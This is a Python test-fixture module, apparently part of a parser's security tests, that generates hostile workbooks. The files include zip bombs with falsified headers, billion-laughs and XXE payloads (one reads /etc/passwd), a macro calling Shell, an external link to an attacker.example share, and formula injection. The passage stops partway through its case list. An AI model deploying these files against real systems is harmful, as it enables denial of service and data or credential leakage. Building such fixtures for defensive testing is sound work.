"""Hostile workbooks, generated on the fly (no binary is committed).

Every builder writes one file into a folder and returns its name. :data:`CASES` lists them with the
verdict each must get from ``parse_workbook`` (through the sandbox): ``"unreadable"`` (rejected
with E_FILE_UNREADABLE) or ``"parsed"`` (read safely, possibly with the warning codes named).

The xlsx files are written by hand (raw zip members and XML) so that each XML part can be made
hostile on its own, and sizes and headers can lie.
"""

from __future__ import annotations

import functools
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape

SAMPLES = Path(__file__).resolve().parents[3] / "shared" / "samples" / "small"

# A unit that already has a later, effective submission in the sample county: a hostile file that
# is read safely (as of 2023-09-02) is then merely superseded and changes no good file's status.
UNIT_CODE = "QX"
UNIT_NAME = "中共青溪县委员会"
AS_OF = "2023-09-02"

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    + "]>\n"
)
XXE = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'


# ---- a raw zip writer ---------------------------------------------------------------------------


@dataclass
class Member:
    name: str
    data: bytes | None = None  # uncompressed bytes (deflated here), or ...
    raw: bytes | None = None  # ... an already deflated stream with its crc and size
    crc: int = 0
    size: int = 0
    local_size: int | None = None  # lie in the local header
    central_size: int | None = None  # lie in the central directory
    stored: bool = False


def deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def write_zip(path: Path, members: list[Member]) -> None:
    out = bytearray()
    central = bytearray()
    for m in members:
        if m.raw is None:
            assert m.data is not None
            m.crc = zlib.crc32(m.data)
            m.size = len(m.data)
            m.raw = m.data if m.stored else deflate(m.data)
        method = 0 if m.stored else 8
        name = m.name.encode("utf-8")
        lsize = m.size if m.local_size is None else m.local_size
        csize = m.size if m.central_size is None else m.central_size
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0x0800, method, 0, 0x21, m.crc, len(m.raw), lsize, len(name), 0
        )
        out += name + m.raw
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0x0800,
            method,
            0,
            0x21,
            m.crc,
            len(m.raw),
            csize,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += name
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), cd_offset, 0)
    Path(path).write_bytes(bytes(out))


@functools.lru_cache(maxsize=8)
def repeated_deflate(unit: bytes, times: int, head: bytes, tail: bytes) -> tuple[bytes, int, int]:
    """A raw deflate stream of ``head + unit*times + tail`` built without compressing it all:
    ``unit`` is compressed once after a full flush (no back-references across the flush), and the
    compressed block is repeated. Returns (stream, crc32, size)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    c2 = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c2.compress(unit) + c2.flush(zlib.Z_FULL_FLUSH)
    c3 = zlib.compressobj(9, zlib.DEFLATED, -15)
    last = c3.compress(tail) + c3.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(unit, crc)
    crc = zlib.crc32(tail, crc)
    stream = first + block * times + last
    size = len(head) + len(unit) * times + len(tail)
    assert (
        zlib.decompressobj(-15).decompress(stream[: len(first) + 2 * len(block)], 64)
        == (head + unit * 2)[:64]
    )
    return stream, crc, size


# ---- a minimal ledger workbook, part by part ----------------------------------------------------


def col_letter(c: int) -> str:
    s = ""
    c += 1
    while c:
        c, r = divmod(c - 1, 26)
        s = chr(65 + r) + s
    return s


@dataclass
class Book:
    """A workbook as XML parts; ``sheets`` are (name, rows) with rows of str/int/float/None or
    ('f', formula, cached-or-None) tuples."""

    sheets: list[tuple[str, list[list]]] = field(default_factory=list)
    extra_parts: dict[str, bytes] = field(default_factory=dict)
    content_type_overrides: dict[str, str] = field(default_factory=dict)
    workbook_rels_extra: list[tuple[str, str, str]] = field(default_factory=list)  # (id, type, target)
    workbook_extra: str = ""  # inside <workbook>, after <sheets>
    macro: bool = False
    doctype: dict[str, str] = field(default_factory=dict)  # part name -> DOCTYPE text
    sheet_extra: dict[int, str] = field(default_factory=dict)  # sheet index -> after </sheetData>
    dimension: dict[int, str] = field(default_factory=dict)

    def parts(self) -> dict[str, bytes]:
        strings: list[str] = []
        index: dict[str, int] = {}

        def sst(s: str) -> int:
            if s not in index:
                index[s] = len(strings)
                strings.append(s)
            return index[s]

        sheet_xml = []
        for si, (_name, rows) in enumerate(self.sheets):
            body = []
            for r, row in enumerate(rows):
                cells = []
                for c, v in enumerate(row):
                    ref = f"{col_letter(c)}{r + 1}"
                    if v is None:
                        continue
                    if isinstance(v, tuple) and v[0] == "f":
                        _, formula, cached = v
                        val = "" if cached is None else f"<v>{cached}</v>"
                        cells.append(f'<c r="{ref}"><f>{escape(formula)}</f>{val}</c>')
                    elif isinstance(v, (int, float)):
                        cells.append(f'<c r="{ref}"><v>{v}</v></c>')
                    else:
                        cells.append(f'<c r="{ref}" t="s"><v>{sst(str(v))}</v></c>')
                body.append(f'<row r="{r + 1}">{"".join(cells)}</row>')
            dim = self.dimension.get(si, "")
            dim = f'<dimension ref="{dim}"/>' if dim else ""
            sheet_xml.append(
                f'<worksheet xmlns="{MAIN_NS}" xmlns:r="{REL_NS}">{dim}<sheetData>{"".join(body)}</sheetData>'
                f"{self.sheet_extra.get(si, '')}</worksheet>"
            )
        sst_items = "".join(f'<si><t xml:space="preserve">{escape(s)}</t></si>' for s in strings)
        parts = {
            "[Content_Types].xml": self._content_types(),
            "_rels/.rels": (
                f'<Relationships xmlns="{PKG_REL_NS}"><Relationship Id="rId1" '
                f'Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
            ),
            "xl/workbook.xml": (
                f'<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets>'
                + "".join(
                    f'<sheet name="{escape(n, {chr(34): "&quot;"})}" sheetId="{i + 1}" r:id="rId{i + 1}"/>'
                    for i, (n, _) in enumerate(self.sheets)
                )
                + f"</sheets>{self.workbook_extra}</workbook>"
            ),
            "xl/_rels/workbook.xml.rels": (
                f'<Relationships xmlns="{PKG_REL_NS}">'
                + "".join(
                    f'<Relationship Id="rId{i + 1}" Type="{REL_NS}/worksheet" '
                    f'Target="worksheets/sheet{i + 1}.xml"/>'
                    for i in range(len(self.sheets))
                )
                + f'<Relationship Id="rIdS" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
                + f'<Relationship Id="rIdT" Type="{REL_NS}/styles" Target="styles.xml"/>'
                + "".join(
                    f'<Relationship Id="{i}" Type="{t}" Target="{g}"/>'
                    for i, t, g in self.workbook_rels_extra
                )
                + "</Relationships>"
            ),
            "xl/styles.xml": (
                f'<styleSheet xmlns="{MAIN_NS}"><fonts count="1"><font><sz val="11"/><name val="Calibri"/></font>'
                '</fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
                '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs>'
                '<cellXfs count="1"><xf xfId="0"/></cellXfs></styleSheet>'
            ),
            "xl/sharedStrings.xml": (
                f'<sst xmlns="{MAIN_NS}" count="{len(strings)}" uniqueCount="{len(strings)}">{sst_items}</sst>'
            ),
        }
        for i, xml in enumerate(sheet_xml):
            parts[f"xl/worksheets/sheet{i + 1}.xml"] = xml
        out: dict[str, bytes] = {}
        for name, xml in parts.items():
            out[name] = (XML_DECL + self.doctype.get(name, "") + xml).encode("utf-8")
        out.update(self.extra_parts)
        return out

    def _content_types(self) -> str:
        main = (
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
            if self.macro
            else "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
        )
        ov = {
            "/xl/workbook.xml": main,
            "/xl/styles.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml",
            "/xl/sharedStrings.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
        }
        for i in range(len(self.sheets)):
            ov[f"/xl/worksheets/sheet{i + 1}.xml"] = (
                "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
            )
        ov.update(self.content_type_overrides)
        return (
            f'<Types xmlns="{CT_NS}">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            + "".join(f'<Override PartName="{k}" ContentType="{v}"/>' for k, v in ov.items())
            + "</Types>"
        )

    def write(
        self,
        path: Path,
        replace: dict[str, bytes] | None = None,
        lie: dict[str, tuple[int | None, int | None]] | None = None,
    ) -> None:
        parts = self.parts()
        parts.update(replace or {})
        members = []
        for name, data in parts.items():
            m = Member(name, data=data)
            if lie and name in lie:
                m.local_size, m.central_size = lie[name]
            members.append(m)
        write_zip(path, members)


def info_rows(code: str = UNIT_CODE, name: str = UNIT_NAME, as_of: str = AS_OF) -> list[list]:
    return [["单位代码", code], ["单位名称", name], ["统计截止日期", as_of], ["党员人数", 10]]


def meeting_rows(attendees=30, topic="学习动员") -> list[list]:
    return [["会议日期", "会议类型", "会议主题", "参会人数"], ["2023-09-01", "动员部署会", topic, attendees]]


def base_book(**kw) -> Book:
    return Book(sheets=[("填报信息", info_rows()), ("会议", meeting_rows())], **kw)


# ---- the hostile files ----------------------------------------------------------------------------


def good_xlsx(d: Path) -> str:
    base_book().write(d / "good_base.xlsx")
    return "good_base.xlsx"


def _bomb(d: Path, name: str, *, lie: bool, where: str = "sheet", mib: int = 2048) -> str:
    book = base_book()
    parts = book.parts()
    if where == "sheet":
        part = "xl/worksheets/sheet2.xml"
        xml = parts[part]
        cut = xml.index(b"<sheetData>") + len(b"<sheetData>")
        head, tail, unit = xml[:cut], xml[cut:], b" " * (1 << 20)
    else:  # one huge shared string: a 1 GiB cell
        part = "xl/sharedStrings.xml"
        xml = parts[part]
        cut = xml.index(b'<t xml:space="preserve">') + len(b'<t xml:space="preserve">')
        head, tail, unit = xml[:cut], xml[cut:], b"A" * (1 << 20)
    stream, crc, size = repeated_deflate(unit, mib, head, tail)
    members = []
    for pname, data in parts.items():
        if pname == part:
            small = 4096 if lie else None
            members.append(
                Member(pname, raw=stream, crc=crc, size=size, local_size=small, central_size=small)
            )
        else:
            members.append(Member(pname, data=data))
    write_zip(d / name, members)
    return name


def zip_bomb_2gib_whitespace(d: Path) -> str:
    return _bomb(d, "bomb_2gib_whitespace.xlsx", lie=False)


def zip_bomb_lying_sizes(d: Path) -> str:
    return _bomb(d, "bomb_lying_sizes.xlsx", lie=True)


def zip_bomb_central_lies_only(d: Path) -> str:
    """Local header tells the truth (2 GiB), central directory says 4 KiB."""
    name = _bomb(d, "bomb_central_lies.xlsx", lie=False)
    p = d / name
    data = bytearray(p.read_bytes())
    eocd = data.rindex(b"PK\x05\x06")
    cd = struct.unpack_from("<I", data, eocd + 16)[0]
    pos = cd
    while data[pos : pos + 4] == b"PK\x01\x02":
        csize, usize, nlen, xlen, clen = struct.unpack_from("<IIHHH", data, pos + 20)
        if data[pos + 46 : pos + 46 + nlen] == b"xl/worksheets/sheet2.xml":
            struct.pack_into("<I", data, pos + 24, 4096)
        pos += 46 + nlen + xlen + clen
    p.write_bytes(bytes(data))
    return name


def cell_1gib(d: Path) -> str:
    """One shared string of 1 GiB of 'A' (1 MiB on disk); sizes declared truthfully."""
    return _bomb(d, "cell_1gib.xlsx", lie=False, where="sst", mib=1024)


def cell_1gib_lying(d: Path) -> str:
    return _bomb(d, "cell_1gib_lying.xlsx", lie=True, where="sst", mib=1024)


def cell_150mib(d: Path) -> str:
    """A single 150 MiB cell: under the uncompressed budget, over the string limit."""
    return _bomb(d, "cell_150mib.xlsx", lie=False, where="sst", mib=150)


def rows_beyond_limit(d: Path) -> str:
    book = base_book(sheet_extra={})
    parts = book.parts()
    xml = parts["xl/worksheets/sheet2.xml"].replace(
        b"</sheetData>", b'<row r="1048577"><c r="A1048577"><v>1</v></c></row></sheetData>'
    )
    book.write(d / "rows_beyond_limit.xlsx", replace={"xl/worksheets/sheet2.xml": xml})
    return "rows_beyond_limit.xlsx"


def rows_without_refs(d: Path) -> str:
    """2.5 million rows with no r= attributes (positions implied): beyond Excel and the cell cap."""
    book = base_book()
    parts = book.parts()
    xml = parts["xl/worksheets/sheet2.xml"]
    cut = xml.index(b"</sheetData>")
    stream, crc, size = repeated_deflate(b"<row><c><v>1</v></c></row>" * 40_000, 63, xml[:cut], xml[cut:])
    members = [Member(n, data=v) for n, v in parts.items() if n != "xl/worksheets/sheet2.xml"]
    members.append(Member("xl/worksheets/sheet2.xml", raw=stream, crc=crc, size=size))
    write_zip(d / "rows_without_refs.xlsx", members)
    return "rows_without_refs.xlsx"


def far_cell(d: Path) -> str:
    book = base_book()
    parts = book.parts()
    xml = parts["xl/worksheets/sheet2.xml"].replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    )
    book.write(d / "far_cell.xlsx", replace={"xl/worksheets/sheet2.xml": xml})
    return "far_cell.xlsx"


def far_cell_disguised(d: Path) -> str:
    """The far cell with a namespace prefix, single quotes, lower case and leading zeros."""
    book = base_book()
    parts = book.parts()
    xml = (
        parts["xl/worksheets/sheet2.xml"]
        .replace(b"<worksheet ", b'<worksheet xmlns:x="' + MAIN_NS.encode() + b'" ')
        .replace(
            b"</sheetData>",
            b"<x:row r = '001048576'><x:c r = 'xfd0001048576'><x:v>1</x:v></x:c></x:row></sheetData>",
        )
    )
    book.write(d / "far_cell_disguised.xlsx", replace={"xl/worksheets/sheet2.xml": xml})
    return "far_cell_disguised.xlsx"


def far_dimension(d: Path) -> str:
    book = base_book(dimension={1: "A1:XFD1048576"})
    book.write(d / "far_dimension.xlsx")
    return "far_dimension.xlsx"


def far_merge(d: Path) -> str:
    book = base_book(sheet_extra={1: '<mergeCells count="1"><mergeCell ref="A2:XFD1048576"/></mergeCells>'})
    book.write(d / "far_merge.xlsx")
    return "far_merge.xlsx"


def many_merges(d: Path) -> str:
    """300k small merged ranges (cheap XML, but each is filled cell by cell)."""
    merges = "".join(f'<mergeCell ref="E{r}:CV{r}"/>' for r in range(3, 300_003))
    book = base_book(sheet_extra={1: f'<mergeCells count="300000">{merges}</mergeCells>'})
    book.write(d / "many_merges.xlsx")
    return "many_merges.xlsx"


def sst_huge_count(d: Path) -> str:
    book = base_book()
    parts = book.parts()
    xml = parts["xl/sharedStrings.xml"]
    import re

    xml = re.sub(rb'uniqueCount="\d+"', b'uniqueCount="4294967295"', xml)
    book.write(d / "sst_huge_count.xlsx", replace={"xl/sharedStrings.xml": xml})
    return "sst_huge_count.xlsx"


def sst_huge_count_second_attr(d: Path) -> str:
    """count="1" first, the huge uniqueCount second (and in single quotes)."""
    book = base_book()
    parts = book.parts()
    xml = parts["xl/sharedStrings.xml"]
    import re

    xml = re.sub(rb'count="\d+" uniqueCount="\d+"', b"count=\"1\" uniqueCount='4294967295'", xml)
    book.write(d / "sst_huge_count2.xlsx", replace={"xl/sharedStrings.xml": xml})
    return "sst_huge_count2.xlsx"


XML_PARTS = {
    "content_types": "[Content_Types].xml",
    "workbook": "xl/workbook.xml",
    "rels": "xl/_rels/workbook.xml.rels",
    "sst": "xl/sharedStrings.xml",
    "sheet": "xl/worksheets/sheet2.xml",
    "styles": "xl/styles.xml",
}


def _doctype_case(kind: str, key: str) -> Callable[[Path], str]:
    def build(d: Path) -> str:
        text = BILLION_LAUGHS if kind == "laughs" else XXE
        book = base_book(doctype={XML_PARTS[key]: text})
        parts = book.parts()
        part = XML_PARTS[key]
        # use the entity, so that a parser that expands it would blow up / leak
        ent = b"&lol9;" if kind == "laughs" else b"&xxe;"
        xml = parts[part]
        if key == "sst":
            xml = xml.replace(b"\xe5\xad\xa6\xe4\xb9\xa0\xe5\x8a\xa8\xe5\x91\x98", ent, 1)  # 学习动员
        elif key == "sheet":
            xml = xml.replace(b"<v>30</v>", b"<v>" + ent + b"</v>")
        elif key == "workbook":
            xml = xml.replace(b'name="\xe4\xbc\x9a\xe8\xae\xae"', b'name="' + ent + b'"')
        name = f"{kind}_{key}.xlsx"
        book.write(d / name, replace={part: xml})
        return name

    build.__name__ = f"{kind}_{key}"
    return build


def doctype_utf16(d: Path) -> str:
    """Billion laughs in a UTF-16 sheet part: a byte search for b'<!DOCTYPE' does not see it."""
    book = base_book()
    parts = book.parts()
    xml = parts["xl/sharedStrings.xml"].decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    decl_end = xml.index("?>") + 2
    xml = xml[:decl_end] + "\n" + BILLION_LAUGHS + xml[decl_end:].replace("学习动员", "&lol9;", 1)
    book.write(
        d / "laughs_utf16.xlsx", replace={"xl/sharedStrings.xml": b"\xff\xfe" + xml.encode("utf-16-le")}
    )
    return "laughs_utf16.xlsx"


# OLE (compound file) ------------------------------------------------------------------------------


def _dir_entry(
    name: str, typ: int, child: int = 0xFFFFFFFF, right: int = 0xFFFFFFFF, start: int = 0, size: int = 0
) -> bytes:
    raw = name.encode("utf-16-le") + b"\x00\x00"
    e = raw.ljust(64, b"\x00")
    e += struct.pack("<HBBIII", len(raw), typ, 1, 0xFFFFFFFF, right, child)
    e += b"\x00" * 16 + b"\x00" * 4 + b"\x00" * 16
    e += struct.pack("<IQ", start, size)
    assert len(e) == 128
    return e


def ole_file(streams: list[tuple[str, bytes]], pad_front: int = 0) -> bytes:
    """A minimal compound file (v3, 512-byte sectors) holding ``streams`` (each >= 4096 bytes, so
    no mini stream). ``pad_front`` sectors of filler come before the streams and the directory."""
    sector = 512
    chunks: list[bytes] = []
    if pad_front:
        chunks.append(b"\x00" * (pad_front * sector))
    for _, data in streams:
        assert len(data) >= 4096
        chunks.append(data)
    n_entries = len(streams) + 1
    chunks.append(b"\x00" * (-(-n_entries * 128 // sector) * sector))  # directory placeholder
    n_sectors = sum(-(-len(c) // sector) for c in chunks)
    k = 1
    while 128 * k < n_sectors + k:
        k += 1
    assert k <= 109
    fat = [0xFFFFFFFD] * k
    starts = []
    for c in chunks:
        n = -(-len(c) // sector)
        start = len(fat)
        starts.append(start)
        fat.extend(start + i + 1 if i < n - 1 else 0xFFFFFFFE for i in range(n))
    stream_starts = starts[1 if pad_front else 0 : -1]
    dir_start = starts[-1]
    entries = [_dir_entry("Root Entry", 5, child=1, start=0xFFFFFFFE)]
    for i, (name, data) in enumerate(streams):
        right = i + 2 if i + 1 < len(streams) else 0xFFFFFFFF
        entries.append(_dir_entry(name, 2, right=right, start=stream_starts[i], size=len(data)))
    chunks[-1] = b"".join(entries)
    body = b"".join(c.ljust(-(-len(c) // sector) * sector, b"\x00") for c in chunks)
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat).ljust(k * sector, b"\xff")
    header = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16)
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6
    header += struct.pack("<IIIIIIIII", 0, k, dir_start, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += struct.pack(f"<{k}I", *range(k)) + b"\xff" * ((109 - k) * 4)
    assert len(header) == 512
    return bytes(header) + fat_bytes + body


def encrypted_xlsx(d: Path) -> str:
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'
    (d / "encrypted.xlsx").write_bytes(
        ole_file(
            [
                ("EncryptionInfo", info.ljust(4096, b"\x00")),
                ("EncryptedPackage", struct.pack("<Q", 5000) + b"\x17" * 8192),
            ]
        )
    )
    return "encrypted.xlsx"


def encrypted_xlsx_far_directory(d: Path) -> str:
    """The directory (with the stream names) beyond the first 64 KiB of the file."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'
    (d / "encrypted_big.xlsx").write_bytes(
        ole_file(
            [
                ("EncryptionInfo", info.ljust(4096, b"\x00")),
                ("EncryptedPackage", struct.pack("<Q", 60000) + b"\x17" * 20000),
            ],
            pad_front=120,
        )
    )
    return "encrypted_big.xlsx"


def encrypted_as_xls(d: Path) -> str:
    info = struct.pack("<HHI", 3, 2, 0x24) + b"standard encryption"
    (d / "encrypted.xls").write_bytes(
        ole_file(
            [
                ("EncryptionInfo", info.ljust(4096, b"\x00")),
                ("EncryptedPackage", struct.pack("<Q", 4000) + b"\x42" * 4096),
            ]
        )
    )
    return "encrypted.xls"


def far_cell_xls(d: Path) -> str:
    """A 5 KB .xls with cells A1 and IV65536: calamine sizes the sheet at 16.7 M cells (~1 GB)."""
    import xlwt

    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("填报信息")
    for r, (label, value) in enumerate(info_rows()):
        ws.write(r, 0, label)
        ws.write(r, 1, value)
    ws2 = wb.add_sheet("会议")
    for r, row in enumerate(meeting_rows()):
        for c, v in enumerate(row):
            ws2.write(r, c, v)
    ws2.write(65535, 255, 1)
    wb.save(str(d / "far_cell.xls"))
    return "far_cell.xls"


def good_xls(d: Path) -> str:
    import xlwt

    wb = xlwt.Workbook(encoding="utf-8")
    for name, rows in (("填报信息", info_rows(as_of="2023-09-08")), ("会议", meeting_rows())):
        ws = wb.add_sheet(name)
        for r, row in enumerate(rows):
            for c, v in enumerate(row):
                ws.write(r, c, v)
    wb.save(str(d / "good_base.xls"))
    return "good_base.xls"


def rows_beyond_limit_dense(d: Path) -> str:
    """1.1 M rows without r= attributes and with varied values (compression ratio ~10, so the ratio
    check does not catch it): more rows than Excel has."""
    import random

    rnd = random.Random(5)
    book = base_book()
    parts = book.parts()
    xml = parts["xl/worksheets/sheet2.xml"]
    cut = xml.index(b"</sheetData>")
    body = b"".join(b"<row><c><v>%d</v></c></row>" % rnd.randrange(10**6) for _ in range(1_100_000))
    book.write(
        d / "rows_beyond_limit_dense.xlsx", replace={"xl/worksheets/sheet2.xml": xml[:cut] + body + xml[cut:]}
    )
    return "rows_beyond_limit_dense.xlsx"


def cell_long_random(d: Path) -> str:
    """A 3 MiB cell of hex digits (compresses only ~2x): over the string limit, under every other."""
    import random

    rnd = random.Random(3)
    text = rnd.randbytes(3 << 19).hex()
    book = base_book()
    book.sheets[1] = ("会议", meeting_rows(topic=text))
    book.write(d / "cell_3mib_random.xlsx")
    return "cell_3mib_random.xlsx"


def ole_not_a_workbook(d: Path) -> str:
    (d / "ole_junk.xls").write_bytes(ole_file([("WordDocument", b"\x00" * 4096)]))
    return "ole_junk.xls"


# corrupt and disguised -----------------------------------------------------------------------------


def _sample(ext: str) -> bytes:
    for p in sorted((SAMPLES / "inbox").rglob(f"*{ext}")):
        if p.suffix == ext and not p.name.startswith(("~$", ".")):
            return p.read_bytes()
    raise FileNotFoundError(ext)


def truncated_xlsx(d: Path) -> str:
    data = _sample(".xlsx")
    (d / "truncated.xlsx").write_bytes(data[: len(data) // 2])
    return "truncated.xlsx"


def corrupt_xlsx(d: Path) -> str:
    """Compressed bytes of every member flipped in the middle (central directory intact)."""
    book = base_book()
    book.write(d / "corrupt.xlsx")
    data = bytearray((d / "corrupt.xlsx").read_bytes())
    pos = 0
    while data[pos : pos + 4] == b"PK\x03\x04":
        csize, _usize, nlen, xlen = struct.unpack_from("<IIHH", data, pos + 18)
        start = pos + 30 + nlen + xlen
        for i in range(start + csize // 3, start + csize // 3 + max(1, csize // 4)):
            data[i] ^= 0x5A
        pos = start + csize
    (d / "corrupt.xlsx").write_bytes(bytes(data))
    return "corrupt.xlsx"


def truncated_xls(d: Path) -> str:
    data = _sample(".xls")
    (d / "truncated.xls").write_bytes(data[: len(data) // 2])
    return "truncated.xls"


def corrupt_xls(d: Path) -> str:
    """A real .xls whose FAT is overwritten with garbage."""
    data = bytearray(_sample(".xls"))
    fat0 = struct.unpack_from("<I", data, 76)[0]
    off = 512 * (fat0 + 1)
    for i in range(off, off + 512):
        data[i] = (i * 37) & 0xFF
    (d / "corrupt.xls").write_bytes(bytes(data))
    return "corrupt.xls"


def empty_file(d: Path) -> str:
    (d / "empty.xlsx").write_bytes(b"")
    return "empty.xlsx"


def pdf_as_xlsx(d: Path) -> str:
    (d / "report_pdf.xlsx").write_bytes(b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")
    return "report_pdf.xlsx"


def html_as_xls(d: Path) -> str:
    (d / "web_export.xls").write_text(
        "<html><head><meta charset='utf-8'></head><body><table><tr><td>单位代码</td><td>QX</td></tr>"
        "</table></body></html>",
        encoding="utf-8",
    )
    return "web_export.xls"


def csv_as_xlsx(d: Path) -> str:
    (d / "export_csv.xlsx").write_text("单位代码,QX\n单位名称,中共青溪县委员会\n", encoding="utf-8")
    return "export_csv.xlsx"


def xls_as_xlsx(d: Path) -> str:
    (d / "really_xls.xlsx").write_bytes(_sample(".xls"))
    return "really_xls.xlsx"


def xlsx_as_xls(d: Path) -> str:
    (d / "really_xlsx.xls").write_bytes(_sample(".xlsx"))
    return "really_xlsx.xls"


def zip_not_workbook(d: Path) -> str:
    write_zip(d / "docx_renamed.xlsx", [Member("word/document.xml", data=b"<w:document/>")])
    return "docx_renamed.xlsx"


# read safely ---------------------------------------------------------------------------------------


def xlsm_with_macro(d: Path) -> str:
    vba = ole_file([("VBA", b'Attribute VB_Name = "ThisWorkbook"\nShell("calc.exe")\n'.ljust(4096, b"\x00"))])
    book = base_book(
        macro=True,
        extra_parts={"xl/vbaProject.bin": vba},
        workbook_rels_extra=[
            ("rIdV", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
        ],
    )
    book.sheets[0] = ("填报信息", info_rows(as_of="2023-09-03"))
    book.write(d / "macro.xlsm")
    return "macro.xlsm"


def external_link(d: Path) -> str:
    ext = (
        f'<externalLink xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><externalBook r:id="rId1"><sheetNames>'
        '<sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1">'
        '<cell r="A1"><v>25</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>'
    )
    ext_rels = (
        f'<Relationships xmlns="{PKG_REL_NS}"><Relationship Id="rId1" '
        f'Type="{REL_NS}/externalLinkPath" Target="file:///\\\\attacker.example\\share\\x.xlsx" '
        'TargetMode="External"/></Relationships>'
    )
    book = base_book(
        extra_parts={
            "xl/externalLinks/externalLink1.xml": (XML_DECL + ext).encode(),
            "xl/externalLinks/_rels/externalLink1.xml.rels": (XML_DECL + ext_rels).encode(),
        },
        content_type_overrides={
            "/xl/externalLinks/externalLink1.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
        },
        workbook_rels_extra=[("rIdE", f"{REL_NS}/externalLink", "externalLinks/externalLink1.xml")],
        workbook_extra='<externalReferences><externalReference r:id="rIdE"/></externalReferences>',
    )
    book.sheets[0] = ("填报信息", info_rows(as_of="2023-09-04"))
    book.sheets[1] = ("会议", meeting_rows(attendees=("f", "[1]Sheet1!A1", 25)))
    book.write(d / "external_link.xlsx")
    return "external_link.xlsx"


def uncalculated_formula(d: Path) -> str:
    book = base_book()
    book.sheets[0] = ("填报信息", info_rows(as_of="2023-09-05"))
    book.sheets[1] = ("会议", meeting_rows(attendees=("f", "SUM(10,20)", None)))
    book.write(d / "formula_uncalculated.xlsx")
    return "formula_uncalculated.xlsx"


def control_characters(d: Path) -> str:
    book = base_book()
    book.sheets[0] = ("填报信息", info_rows(as_of="2023-09-06"))
    book.sheets[1] = ("会议", meeting_rows(topic="动员_x0007_会\t议_x001B_[31m\x0b红\x0c字\r\n第二行"))
    parts = book.parts()
    # raw C0 characters inside the XML (illegal in XML 1.0) and an escaped one
    sst = parts["xl/sharedStrings.xml"].replace(b"\x0b", b"&#11;").replace(b"\x0c", b"\x0c")
    book.write(d / "control_chars.xlsx", replace={"xl/sharedStrings.xml": sst})
    return "control_chars.xlsx"


def formula_injection(d: Path) -> str:
    """Unit name, sheet name, headers and values that spreadsheet programs would evaluate."""
    book = Book(
        sheets=[
            ("填报信息", info_rows(name='=HYPERLINK("http://evil.example","点我")', as_of="2023-09-07")),
            (
                "=会议",
                [
                    [
                        "会议日期",
                        "会议类型",
                        "会议主题",
                        "参会人数",
                        "=1+2",
                        "+SUM(A1)",
                        "-2+3",
                        "@cmd",
                        "\t=tab",
                        "\r=cr",
                    ],
                    ["2023-09-01", "=动员部署会", "@SUM(1+1)", "-3", "=x", "+x", "-x", "@x", "\tx", "\rx"],
                ],
            ),
        ]
    )
    book.write(d / "formula_injection.xlsx")
    return "formula_injection.xlsx"


@dataclass(frozen=True)
class Case:
    build: Callable[[Path], str]
    verdict: str  # "unreadable" | "parsed"
    codes: tuple[str, ...] = ()  # issue codes that must be present
    what: str = ""


CASES: list[Case] = [
    Case(zip_bomb_2gib_whitespace, "unreadable", what="2 GiB of whitespace in a sheet, sizes declared"),
    Case(zip_bomb_lying_sizes, "unreadable", what="2 GiB sheet, local+central sizes say 4 KiB"),
